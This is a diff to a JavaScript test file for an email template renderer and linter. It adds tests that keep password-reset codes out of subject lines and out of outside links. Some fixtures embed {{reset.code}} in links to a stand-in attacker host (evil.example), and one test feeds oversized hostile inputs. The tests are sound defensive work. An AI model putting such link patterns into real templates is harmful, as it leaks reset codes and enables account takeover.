@@ -50,6 +50,15 @@ describe('a template', () => {
     expect(letter.text).toContain('<b>A & "B"</b>');
   });
 
+  it('never tells in a subject what opens a door, whoever saved it so', () => {
+    const words = { subject: 'A {{reset.code}}{{#if a}}{{link}}{{/if}} b', htmlContent: '' };
+    const data = { reset: { code: '4YES' }, a: 'a', link: 'https://x.example' };
+    expect(render({ ...words, textContent: '{{reset.code}}' }, data)).toMatchObject({
+      subject: 'A b',
+      text: '4YES',
+    });
+  });
+
   it.each([
     ['what people wrote', '{{#each po.items}}{{description}}{{/each}}', 'x'.repeat(300), 2000],
     ['what says nothing', `{{#each po.items}}${'{{unit}}'.repeat(1100)}{{/each}}`, '', 500],
@@ -156,6 +165,31 @@ describe('the lint', () => {
       );
     },
   );
+
+  it.each([
+    [{ subject: 'Code {{reset.code}}' }, '{{reset.code}} must not stand in the subject.'],
+    [
+      { subject: '{{ reset.code | default:"x" }}' },
+      '{{reset.code}} must not stand in the subject.',
+    ],
+    [
+      { htmlContent: '<a href="https://evil.example/?{{reset.code}}">x</a>' },
+      '{{reset.code}} must not be part of another address.',
+    ],
+    [
+      { textContent: 'https://evil.example/{{#if reset.code}}{{ reset.code }}{{/if}}' },
+      '{{reset.code}} must not be part of another address.',
+    ],
+  ])('lets nobody but its reader have what opens a door: %j', (over, fault) => {
+    expect(messages(over, { variables: ['reset.code'], needed: [] })).toEqual([fault]);
+  });
+
+  it('reads what is long and hostile once', () => {
+    const start = performance.now();
+    findings({ textContent: `{{${'a'.repeat(49_000)}`, htmlContent: '{{'.repeat(49_000) });
+    findings({ textContent: 'https://'.repeat(6_000), htmlContent: '{{a}}'.repeat(20_000) });
+    expect(performance.now() - start).toBeLessThan(2000);
+  });
 
   it('knows the names of a list inside of it', () => {
     expect(
